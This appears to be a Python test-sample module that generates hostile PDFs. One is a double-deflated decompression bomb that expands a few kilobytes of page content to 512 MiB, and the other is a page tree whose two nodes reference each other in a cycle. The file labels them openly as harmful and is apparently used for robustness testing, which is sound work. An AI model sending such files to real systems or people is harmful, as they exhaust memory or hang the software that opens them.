"""Files made to hurt whoever opens them. Open them only where memory, time and output are limited.

`remark` makes each file's bytes its own; it must be a single line.
"""

import zlib
from functools import cache

from services.wallet_simulator.samples.pdf import document, stream

BOMB_BYTES = 512 * 1024 * 1024
"""What the bomb's page content unpacks to."""

_LINE = b"BT /F1 8 Tf 50 700 Td (0123456789 bomb) Tj ET\n"
_BLOCK = (_LINE * (1024 * 1024 // len(_LINE) + 1))[: 1024 * 1024 - 1] + b"\n"


@cache
def _bomb() -> bytes:
    """`BOMB_BYTES` of valid text operators, deflated twice.

    A block deflated between two full flushes depends on nothing outside it, so the same few hundred bytes stand for
    every block and the whole never exists in memory.
    """
    blocks = BOMB_BYTES // len(_BLOCK)
    deflate = zlib.compressobj(9, wbits=-15)
    packed = deflate.compress(_BLOCK) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(blocks):
        checksum = zlib.adler32(_BLOCK, checksum)
    inner = b"\x78\xda" + packed * blocks + deflate.flush() + checksum.to_bytes(4, "big")
    return zlib.compress(inner, 9)


def bomb(remark: str) -> bytes:
    """One page whose content, with a font to show it in, unpacks to `BOMB_BYTES` from a few kilobytes."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>"
    return document(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: page,
            4: stream(_bomb(), b"/Filter[/FlateDecode/FlateDecode]"),
            5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        },
        remark.encode(),
    )


def loop(remark: str) -> bytes:
    """A page tree whose two nodes are each other's child, with no page anywhere."""
    return document(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>",
            3: b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>",
        },
        remark.encode(),
    )
